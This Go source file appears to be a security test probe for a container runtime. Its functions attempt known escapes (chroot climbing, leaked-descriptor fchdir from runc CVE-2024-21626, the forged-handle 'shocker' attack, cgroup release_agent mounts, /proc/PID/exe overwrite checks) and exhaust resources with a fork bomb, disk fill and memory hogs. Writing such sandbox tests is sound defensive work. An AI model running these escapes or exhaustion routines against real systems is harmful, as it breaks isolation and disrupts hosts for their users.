package main

import (
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"sort"
	"strconv"
	"strings"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"

	"launch/internal/fork"
	"launch/internal/probe/report"
)

// Operations of probe try for the attack tests (init/attack_test.go, hostile_test.go):
// each is one attempt to leave the container, reach the host or exhaust a resource,
// and prints what happened, so that the test can say what it expects and why.
//
//	try climb FILE          chroot into a new directory, climb out with "..", chroot
//	                        there, and read FILE: "FILE=<errno> top=<what / holds>"
//	try fchdir FILE         fchdir through each inherited descriptor, climb, read FILE
//	                        and create FILE.escaped-FD: "FD:<result>" for each, in order
//	try procroot FILE       read FILE through /proc/self/root, /proc/self/cwd and those of
//	                        every process: the errors seen, or "ok"
//	try exes                for every process: "PID exe=<link> sha256=<hash> mem=<r>
//	                        write=<r>" (each an errno when refused)
//	try handle              name_to_handle_at on /, then open_by_handle_at with that
//	                        handle and with a forged one for inode 2
//	try ptrace PID          PTRACE_ATTACH to PID, and detach
//	try node b|c PATH MAJ MIN [DATA]
//	                        mknod, open for writing, write DATA: "ok" or the step that
//	                        failed and its errno; the node is removed afterwards
//	try rewrite PATH        write a file's own content back to it
//	try readn PATH          read up to 1 MiB: the byte count or the errno
//	try fill DIR [BYTES]    write files of BYTES (default 1 MiB) into DIR until that
//	                        fails: "N ERRNO", N the files written in full
//	try openmax             open /dev/null until that fails: "N ERRNO"
//	try ids                 "ruid euid suid rgid egid sgid CapPrm CapEff NoNewPrivs"
//	try mountfs TYPE DIR OPTS
//	                        mount a new file system of TYPE on DIR with options OPTS
//	try settime             set CLOCK_REALTIME to the time it reads
//	try rewriteall DIR      rewrite every file below DIR: "ERRNO N" for each outcome,
//	                        and the path of any file whose rewrite succeeded
//	try hogs N MIB          start N processes that each take MIB of memory and hold it
//	                        until all have it or were killed: "held=H killed=K"
//	try hold MIB            one of them: take MIB, print "held", wait for EOF on stdin
//	try forkbomb            start a fork bomb, print "bombing", wait for EOF on stdin,
//	                        then print the pids controller's "max N" count and exit,
//	                        which ends the bomb with the PID namespace
func init() {
	for name, op := range map[string]func([]string) string{
		"climb":      tryClimb,
		"fchdir":     tryFchdir,
		"procroot":   tryProcRoot,
		"exes":       tryExes,
		"handle":     tryHandle,
		"ptrace":     tryPtrace,
		"node":       tryNode,
		"rewrite":    tryRewrite,
		"readn":      tryReadN,
		"fill":       tryFill,
		"openmax":    tryOpenMax,
		"ids":        tryIDs,
		"mountfs":    tryMountFS,
		"settime":    trySettime,
		"forkbomb":   tryForkBomb,
		"rewriteall": tryRewriteAll,
		"hogs":       tryHogs,
		"hold":       tryHold,
	} {
		if _, dup := moreOps[name]; dup {
			panic("probe: operation " + name + " registered twice")
		}
		moreOps[name] = op
	}
}

// climbs is more ".." than any real tree is deep: at the top of the reachable tree each
// further ".." stays where it is.
const climbs = 256

// climb goes up from the working directory as far as ".." leads.
func climb() error {
	for i := 0; i < climbs; i++ {
		if err := unix.Chdir(".."); err != nil {
			return err
		}
	}
	return nil
}

// chrootBelow makes a new directory in /tmp the process's root while its working
// directory stays at the old root, the start of every climb out of a chroot. It returns
// what failed, or "".
func chrootBelow(prefix string) string {
	dir, err := os.MkdirTemp("/tmp", prefix)
	if err != nil {
		return "mkdir " + report.ErrName(err)
	}
	if err := unix.Chdir("/"); err != nil {
		return "chdir / " + report.ErrName(err)
	}
	if err := unix.Chroot(dir); err != nil {
		return "chroot " + report.ErrName(err)
	}
	return ""
}

// tryClimb is the classic way out of a chroot (chroot(2), NOTES): chroot into a new
// directory while the working directory stays outside it, climb with "..", which no
// root stops any more, and chroot to where the climb ended. Then it reads file, which
// only the host has. The answer also lists what the new / holds, to show where the
// climb ended (the container's own root: probe among its entries). It changes the
// process's root for good.
func tryClimb(a []string) string {
	file := arg(a, 0)
	if failed := chrootBelow("climb-"); failed != "" {
		return failed
	}
	if err := climb(); err != nil {
		return "chdir .. " + report.ErrName(err)
	}
	if err := unix.Chroot("."); err != nil {
		return "chroot . " + report.ErrName(err)
	}
	_, err := os.ReadFile(file)
	return file + "=" + report.ErrName(err) + " top=" + listDir("/")
}

// listDir returns the sorted names in dir, joined by commas.
func listDir(dir string) string {
	f, err := os.Open(dir)
	if err != nil {
		return report.ErrName(err)
	}
	defer f.Close()
	names, _ := f.Readdirnames(-1)
	sort.Strings(names)
	return strings.Join(names, ",")
}

// tryFchdir goes through each descriptor the probe inherited (runc CVE-2024-21626: a
// leaked directory of the host became the working directory): fchdir to it, climb
// with "..", read file from there and create file.escaped-FD next to it, a witness
// the host can see even when the probe's output is lost; and it opens file through
// openat relative to the descriptor. A descriptor that is not a directory answers
// ENOTDIR.
func tryFchdir(a []string) string {
	file := strings.TrimPrefix(arg(a, 0), "/")
	var nums []int
	for name := range fds {
		if n, err := strconv.Atoi(name); err == nil {
			nums = append(nums, n)
		}
	}
	sort.Ints(nums)
	up := strings.Repeat("../", climbs)
	var out []string
	for _, fd := range nums {
		res := ""
		if err := unix.Fchdir(fd); err != nil {
			res = report.ErrName(err)
		} else if err := climb(); err != nil {
			res = "climb " + report.ErrName(err)
		} else {
			_, err := os.ReadFile(file)
			res = report.ErrName(err)
			if f, err := os.Create(file + ".escaped-" + strconv.Itoa(fd)); err == nil {
				f.Close()
			}
		}
		if f, err := unix.Openat(fd, up+file, unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil {
			unix.Close(f)
			res += ",openat=ok"
		} else if res != report.ErrName(err) {
			res += ",openat=" + report.ErrName(err)
		}
		out = append(out, fmt.Sprintf("%d:%s", fd, res))
	}
	return strings.Join(out, " ")
}

// pids returns the processes the probe can see in /proc, in order.
func pids() []int {
	ents, _ := os.ReadDir("/proc")
	var out []int
	for _, e := range ents {
		if n, err := strconv.Atoi(e.Name()); err == nil {
			out = append(out, n)
		}
	}
	sort.Ints(out)
	return out
}

// procDirs returns /proc/PID for every process the probe can see.
func procDirs() []string {
	var out []string
	for _, pid := range pids() {
		out = append(out, "/proc/"+strconv.Itoa(pid))
	}
	return out
}

// tryProcRoot reads file through the root and working-directory links of every
// process in /proc, directly and climbing from them, as a way to reach a root other
// than the process's own. It prints "ok" if any read succeeds, else the distinct
// errors.
func tryProcRoot(a []string) string {
	file := arg(a, 0)
	up := strings.Repeat("/..", 64)
	seen := map[string]bool{}
	for _, p := range append([]string{"/proc/self"}, procDirs()...) {
		for _, path := range []string{p + "/root" + file, p + "/root" + up + file, p + "/cwd" + up + file} {
			_, err := os.ReadFile(path)
			if err == nil {
				return "ok: " + path
			}
			seen[report.ErrName(err)] = true
		}
	}
	var errs []string
	for e := range seen {
		errs = append(errs, e)
	}
	sort.Strings(errs)
	return strings.Join(errs, ",")
}

// tryExes describes the executable and memory of every process: where /proc/PID/exe
// points, the SHA-256 of what it opens, whether /proc/PID/mem opens, and whether the
// executable opens for writing (CVE-2019-5736 overwrote the runtime's binary so).
func tryExes([]string) string {
	var lines []string
	for _, pid := range pids() {
		p := "/proc/" + strconv.Itoa(pid)
		link, err := os.Readlink(p + "/exe")
		if err != nil {
			link = report.ErrName(err)
		}
		sum := "?"
		if f, err := os.Open(p + "/exe"); err != nil {
			sum = report.ErrName(err)
		} else {
			h := sha256.New()
			if _, err := io.Copy(h, f); err != nil {
				sum = report.ErrName(err)
			} else {
				sum = hex.EncodeToString(h.Sum(nil))
			}
			f.Close()
		}
		mem := "ok"
		if f, err := os.Open(p + "/mem"); err != nil {
			mem = report.ErrName(err)
		} else {
			f.Close()
		}
		write := "ok"
		if f, err := os.OpenFile(p+"/exe", os.O_WRONLY, 0); err != nil {
			write = report.ErrName(err)
		} else {
			f.Close()
		}
		lines = append(lines, fmt.Sprintf("%d exe=%s sha256=%s mem=%s write=%s", pid, link, sum, mem, write))
	}
	return strings.Join(lines, "\n")
}

// tryHandle asks for a file handle of / (name_to_handle_at(2) is allowed) and opens it
// with open_by_handle_at(2), then opens a forged handle for inode 2, the root of an
// ext2/3/4 file system, as the "shocker" exploit did against Docker 0.11. Both need
// CAP_DAC_READ_SEARCH, which a container lacks, and the filter refuses the call.
func tryHandle([]string) string {
	h, _, err := unix.NameToHandleAt(unix.AT_FDCWD, "/", 0)
	if err != nil {
		return "name_to_handle_at " + report.ErrName(err)
	}
	mnt, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return "open / " + report.ErrName(err)
	}
	defer unix.Close(mnt)
	open := func(h unix.FileHandle) string {
		fd, err := unix.OpenByHandleAt(mnt, h, unix.O_RDONLY|unix.O_CLOEXEC)
		if err == nil {
			unix.Close(fd)
		}
		return report.ErrName(err)
	}
	// FILEID_INO32_GEN (1): a 32-bit inode number and a generation.
	forged := make([]byte, 8)
	binary.NativeEndian.PutUint32(forged, 2)
	return "own=" + open(h) + " forged=" + open(unix.NewFileHandle(1, forged))
}

// tryPtrace attaches to a process and detaches again.
func tryPtrace(a []string) string {
	pid, _ := strconv.Atoi(arg(a, 0))
	if err := unix.PtraceAttach(pid); err != nil {
		return report.ErrName(err)
	}
	var ws unix.WaitStatus
	unix.Wait4(pid, &ws, unix.WALL, nil)
	unix.PtraceDetach(pid)
	return "ok"
}

// tryNode makes a block or character device node, opens it for writing and writes
// data to it: what a container with CAP_MKNOD would do to reach a host disk or the
// kernel's log. It removes the node again, whatever happened.
func tryNode(a []string) string {
	mode := uint32(unix.S_IFCHR)
	if arg(a, 0) == "b" {
		mode = unix.S_IFBLK
	}
	path := arg(a, 1)
	major, _ := strconv.ParseUint(arg(a, 2), 10, 32)
	minor, _ := strconv.ParseUint(arg(a, 3), 10, 32)
	if err := unix.Mknod(path, mode|0o600, int(unix.Mkdev(uint32(major), uint32(minor)))); err != nil {
		return "mknod " + report.ErrName(err)
	}
	defer os.Remove(path)
	f, err := os.OpenFile(path, os.O_WRONLY, 0)
	if err != nil {
		return "open " + report.ErrName(err)
	}
	defer f.Close()
	if data := arg(a, 4); data != "" {
		if _, err := f.WriteString(data); err != nil {
			return "write " + report.ErrName(err)
		}
	}
	return "ok"
}

// tryRewrite writes a file's content back to it: a write that, should it succeed,
// changes nothing (for kernel settings such as core_pattern, whose change would be an
// escape).
func tryRewrite(a []string) string {
	path := arg(a, 0)
	b, err := os.ReadFile(path)
	if err != nil {
		return "read " + report.ErrName(err)
	}
	f, err := os.OpenFile(path, os.O_WRONLY, 0)
	if err != nil {
		return report.ErrName(err)
	}
	defer f.Close()
	_, err = f.Write(b)
	return report.ErrName(err)
}

// tryRewriteAll rewrites every regular file below dir that it can read, and counts
// the outcomes by errno. Files it cannot read (write-only ones) are left alone.
func tryRewriteAll(a []string) string {
	count := map[string]int{}
	var written []string
	filepath.WalkDir(arg(a, 0), func(p string, d os.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return nil
		}
		res := tryRewrite([]string{p})
		if strings.HasPrefix(res, "read ") {
			return nil
		}
		count[res]++
		if res == "ok" {
			written = append(written, p)
		}
		return nil
	})
	var out []string
	for res, n := range count {
		out = append(out, fmt.Sprintf("%s %d", res, n))
	}
	sort.Strings(out)
	return strings.Join(append(out, written...), "\n")
}

// tryReadN reads up to 1 MiB of a file and prints how many bytes it got.
func tryReadN(a []string) string {
	f, err := os.Open(arg(a, 0))
	if err != nil {
		return report.ErrName(err)
	}
	defer f.Close()
	n, err := io.Copy(io.Discard, io.LimitReader(f, 1<<20))
	if err != nil {
		return report.ErrName(err)
	}
	return strconv.FormatInt(n, 10)
}

// tryFill writes files into dir until that fails, and prints how many it wrote in
// full and the error that stopped it.
func tryFill(a []string) string {
	dir := arg(a, 0)
	size, err := strconv.Atoi(arg(a, 1))
	if err != nil {
		size = 1 << 20
	}
	block := make([]byte, size)
	for i := 1; i < len(block); i *= 2 {
		block[i] = byte(i) // not all zeroes: nothing may share or compress them
	}
	for n := 0; ; n++ {
		f, err := os.OpenFile(filepath.Join(dir, fmt.Sprintf("fill-%d", n)), os.O_WRONLY|os.O_CREATE|os.O_EXCL, 0o644)
		if err != nil {
			return fmt.Sprintf("%d %s", n, report.ErrName(err))
		}
		if len(block) > 0 {
			_, err = f.Write(block)
		}
		if cerr := f.Close(); err == nil {
			err = cerr
		}
		if err != nil {
			return fmt.Sprintf("%d %s", n, report.ErrName(err))
		}
	}
}

// tryOpenMax opens /dev/null until the kernel refuses, and prints how many it opened.
func tryOpenMax([]string) string {
	for n := 0; ; n++ {
		if _, err := unix.Open("/dev/null", unix.O_RDONLY|unix.O_CLOEXEC, 0); err != nil {
			return fmt.Sprintf("%d %s", n, report.ErrName(err))
		}
	}
}

// tryIDs prints the real, effective and saved user and group IDs, the effective
// capabilities and no_new_privs: what a set-user-ID or file-capability binary got.
func tryIDs([]string) string {
	r, e, s := unix.Getresuid()
	rg, eg, sg := unix.Getresgid()
	status := map[string]string{}
	if b, err := os.ReadFile("/proc/self/status"); err == nil {
		for _, line := range strings.Split(string(b), "\n") {
			k, v, _ := strings.Cut(line, ":")
			status[k] = strings.TrimSpace(v)
		}
	}
	return fmt.Sprintf("%d %d %d %d %d %d %s %s %s", r, e, s, rg, eg, sg, status["CapPrm"], status["CapEff"], status["NoNewPrivs"])
}

// tryMountFS mounts a new file system: a fresh cgroup v1 hierarchy, whose
// release_agent is the way out of CVE-2022-0492, or any other.
func tryMountFS(a []string) string {
	os.MkdirAll(arg(a, 1), 0o755)
	return report.ErrName(unix.Mount(arg(a, 0), arg(a, 1), arg(a, 0), 0, arg(a, 2)))
}

// trySettime sets the real-time clock to what it reads, so that nothing changes
// should the call ever succeed.
func trySettime([]string) string {
	var ts unix.Timespec
	if err := unix.ClockGettime(unix.CLOCK_REALTIME, &ts); err != nil {
		return "clock_gettime " + report.ErrName(err)
	}
	return report.ErrName(unix.ClockSettime(unix.CLOCK_REALTIME, &ts))
}

// tryForkBomb starts a fork bomb in a child: every process forks, and forks again,
// until the kernel refuses, and then retries every 50 ms. The bomb runs raw system
// calls only, as a child of a fork of a Go program must (no runtime, no allocation),
// and PID 1 waits with a raw read, which needs no new thread of the runtime, for
// there is none to be had once the bomb has taken every process the cgroup allows.
func tryForkBomb([]string) string {
	pid, e := fork.RawClone(0)
	if e != 0 {
		return "clone " + report.ErrName(e)
	}
	if pid == 0 {
		bomb()
	}
	fmt.Println("bombing")
	var b [512]byte
	for {
		// SAFETY: b is a live array of this frame.
		n, _, e := unix.RawSyscall(unix.SYS_READ, 0, uintptr(unsafe.Pointer(&b[0])), uintptr(len(b)))
		if e != unix.EINTR && (e != 0 || n == 0) {
			break
		}
	}
	for _, p := range []string{"/sys/fs/cgroup/pids/pids.events", "/sys/fs/cgroup/pids.events"} {
		if ev, err := os.ReadFile(p); err == nil {
			return strings.TrimSpace(string(ev))
		}
	}
	return "no pids.events"
}

// bomb forks for ever. It runs in forked children of the probe, where only raw
// system calls are safe.
//
//go:nosplit
//go:norace
func bomb() {
	ts := unix.Timespec{Nsec: 50e6}
	for {
		if _, e := fork.RawClone(0); e != 0 {
			// SAFETY: ts is on this stack.
			unix.RawSyscall(unix.SYS_NANOSLEEP, uintptr(unsafe.Pointer(&ts)), 0, 0)
		}
	}
}

// tryHogs starts n processes that take mib MiB each and hold it until every one has
// its memory or has been killed, so that the memory is wanted all at once, and then
// ends them. It counts those that held their memory and those killed (SIGKILL: the
// OOM killer).
func tryHogs(a []string) string {
	n, _ := strconv.Atoi(arg(a, 0))
	type hog struct {
		cmd  *exec.Cmd
		in   io.WriteCloser
		out  io.Reader
		held bool
	}
	hogs := make([]*hog, 0, n)
	for i := 0; i < n; i++ {
		cmd := exec.Command("/proc/self/exe", "try", "hold", arg(a, 1))
		in, err := cmd.StdinPipe()
		if err != nil {
			return "pipe " + report.ErrName(err)
		}
		out, err := cmd.StdoutPipe()
		if err != nil {
			return "pipe " + report.ErrName(err)
		}
		if err := cmd.Start(); err != nil {
			return "start " + report.ErrName(err)
		}
		hogs = append(hogs, &hog{cmd: cmd, in: in, out: out})
	}
	for _, h := range hogs {
		b := make([]byte, 5)
		m, _ := io.ReadFull(h.out, b)
		h.held = string(b[:m]) == "held\n"
	}
	held, killed := 0, 0
	for _, h := range hogs {
		h.in.Close()
		err := h.cmd.Wait()
		if ee, ok := err.(*exec.ExitError); ok {
			if ws, ok := ee.Sys().(syscall.WaitStatus); ok && ws.Signaled() && ws.Signal() == syscall.SIGKILL {
				killed++
				continue
			}
		}
		if h.held {
			held++
		}
	}
	return fmt.Sprintf("held=%d killed=%d", held, killed)
}

// tryHold takes mib MiB, touching every page, prints "held" and waits for EOF on
// stdin.
func tryHold(a []string) string {
	n, _ := strconv.Atoi(arg(a, 0))
	mem := make([]byte, n<<20)
	for i := 0; i < len(mem); i += 4096 {
		mem[i] = 1
	}
	fmt.Println("held")
	io.Copy(io.Discard, os.Stdin)
	runtime.KeepAlive(mem)
	return "released"
}
